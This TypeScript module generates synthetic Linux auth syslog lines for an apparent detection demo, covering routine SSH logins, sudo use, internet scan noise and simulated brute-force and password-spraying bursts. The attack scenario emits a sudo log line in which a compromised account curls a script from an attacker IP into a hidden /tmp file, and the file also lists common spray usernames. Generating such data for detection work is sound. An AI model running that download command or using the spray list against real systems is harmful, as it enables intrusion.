/**
 * Linux auth log lines as a syslog collector receives them (RFC 3164 with PRI): sshd logins and
 * sessions, sudo, background internet noise, and brute-force bursts that sometimes succeed.
 */
import { BASE64, type Rng } from './rng.js';
import { syslogTime, type DemoEvent, type Line, type Scenario } from './scenario.js';

// PRI = facility * 8 + severity: auth (4) info (6) = 38; authpriv (10) notice (5) = 85, info = 86.
const AUTH_INFO = 38;
const AUTHPRIV_NOTICE = 85;
const AUTHPRIV_INFO = 86;

const HOSTS = ['bastion-1', 'bastion-2', 'web-01', 'db-01'];
const STAFF = [
  { user: 'alice', uid: 1001, ip: '10.0.4.12' },
  { user: 'bob', uid: 1002, ip: '10.0.4.23' },
  { user: 'carol', uid: 1003, ip: '10.0.5.7' },
  { user: 'deploy', uid: 1004, ip: '10.0.9.10' },
];
const SPRAY_USERS = ['admin', 'test', 'oracle', 'ubuntu', 'postgres', 'git', 'user', 'support', 'guest', 'ftpuser', 'pi'];
const SUDO_COMMANDS = [
  '/usr/bin/systemctl restart nginx', '/usr/bin/journalctl -u sshd --since today', '/usr/bin/apt-get update',
  '/usr/bin/tail -n 100 /var/log/auth.log', '/usr/bin/docker ps', '/usr/sbin/iptables -L -n',
];

/** `<PRI>Mmm dd hh:mm:ss host program[pid]: text` */
function line(t: number, pri: number, host: string, program: string, pid: number | null, text: string): DemoEvent {
  const tag = pid === null ? program : `${program}[${pid}]`;
  return { message: `<${pri}>${syslogTime(t)} ${host} ${tag}: ${text}`, source_type: 'sshd', timestamp: new Date(t).toISOString() };
}

const fingerprint = (rng: Rng) => `SHA256:${rng.chars(43, BASE64)}`;
const sshdPid = (rng: Rng) => rng.int(1000, 65000);

export const sshd: Scenario = {
  weight: 3,
  firstAttack: [20, 80],
  attackEvery: [250, 600],

  background(rng, t, then) {
    const host = rng.pick(HOSTS);
    const pid = sshdPid(rng);
    const kind = rng.weighted([['login', 4], ['logout', 3], ['sudo', 3], ['noise', 3], ['sudo_fail', 0.3]] as const);
    const who = rng.pick(STAFF);
    const port = rng.port();
    switch (kind) {
      case 'login': {
        const key = rng.chance(0.8) ? `publickey for ${who.user} from ${who.ip} port ${port} ssh2: ${rng.pick(['ED25519', 'RSA', 'ECDSA'])} ${fingerprint(rng)}` : `password for ${who.user} from ${who.ip} port ${port} ssh2`;
        then((t2) => line(t2, AUTHPRIV_INFO, host, 'sshd', pid, `pam_unix(sshd:session): session opened for user ${who.user}(uid=${who.uid}) by (uid=0)`));
        return line(t, AUTH_INFO, host, 'sshd', pid, `Accepted ${key}`);
      }
      case 'logout':
        then((t2) => line(t2, AUTHPRIV_INFO, host, 'sshd', pid, `pam_unix(sshd:session): session closed for user ${who.user}`));
        return line(t, AUTH_INFO, host, 'sshd', pid, `Disconnected from user ${who.user} ${who.ip} port ${port}`);
      case 'sudo':
        return line(t, AUTHPRIV_NOTICE, host, 'sudo', null, `   ${who.user} : TTY=pts/${rng.int(0, 4)} ; PWD=/home/${who.user} ; USER=root ; COMMAND=${rng.pick(SUDO_COMMANDS)}`);
      case 'sudo_fail':
        return line(t, AUTHPRIV_NOTICE, host, 'sudo', null, `   ${who.user} : 3 incorrect password attempts ; TTY=pts/${rng.int(0, 4)} ; PWD=/home/${who.user} ; USER=root ; COMMAND=/bin/bash`);
      case 'noise': {
        // The internet knocks on every exposed sshd, a few times an hour.
        const ip = rng.ip24(rng.pick(['203.0.113', '198.51.100']));
        const user = rng.pick(SPRAY_USERS);
        return rng.weighted([
          [() => line(t, AUTH_INFO, host, 'sshd', pid, `Invalid user ${user} from ${ip} port ${port}`), 2],
          [() => line(t, AUTH_INFO, host, 'sshd', pid, `Connection closed by ${ip} port ${port} [preauth]`), 2],
          [() => line(t, AUTH_INFO, host, 'sshd', pid, `Failed password for invalid user ${user} from ${ip} port ${port} ssh2`), 1],
        ] as const)();
      }
    }
  },

  attack(rng) {
    const attacker = rng.ip24('203.0.113');
    const host = rng.pick(['bastion-1', 'bastion-2']);
    const attempts = rng.int(10, 30);
    const targeted = rng.chance(0.5) ? rng.pick(['root', 'deploy']) : null; // else password spraying
    const lines: Line[] = [];
    let pid = sshdPid(rng);
    for (let i = 0; i < attempts; i++) {
      // sshd allows a few tries per connection; each new connection is a new process.
      if (i % 3 === 0) pid = sshdPid(rng);
      const p = pid;
      const port = rng.port();
      const user = targeted ?? rng.pick(SPRAY_USERS);
      const valid = user === 'root' || STAFF.some((s) => s.user === user);
      lines.push((t) => line(t, AUTH_INFO, host, 'sshd', p, `Failed password for ${valid ? '' : 'invalid user '}${user} from ${attacker} port ${port} ssh2`));
      if (i % 3 === 2) lines.push((t) => line(t, AUTH_INFO, host, 'sshd', p, `Connection closed by authenticating user ${user} ${attacker} port ${port} [preauth]`));
    }
    if (targeted && rng.chance(0.5)) {
      // The guess worked: a compromise, followed by what an intruder does first.
      const port = rng.port();
      const p = sshdPid(rng);
      const uid = targeted === 'root' ? 0 : 1004;
      lines.push(
        (t) => line(t, AUTH_INFO, host, 'sshd', p, `Accepted password for ${targeted} from ${attacker} port ${port} ssh2`),
        (t) => line(t, AUTHPRIV_INFO, host, 'sshd', p, `pam_unix(sshd:session): session opened for user ${targeted}(uid=${uid}) by (uid=0)`),
      );
      if (targeted === 'deploy') {
        const dropper = rng.ip24('203.0.113');
        lines.push((t) => line(t, AUTHPRIV_NOTICE, host, 'sudo', null, `   deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -fsSL http://${dropper}/x.sh -o /tmp/.x.sh`));
      }
    } else {
      const port = rng.port();
      lines.push((t) => line(t, AUTH_INFO, host, 'sshd', pid, `Received disconnect from ${attacker} port ${port}:11: Bye Bye [preauth]`));
    }
    return lines;
  },
};
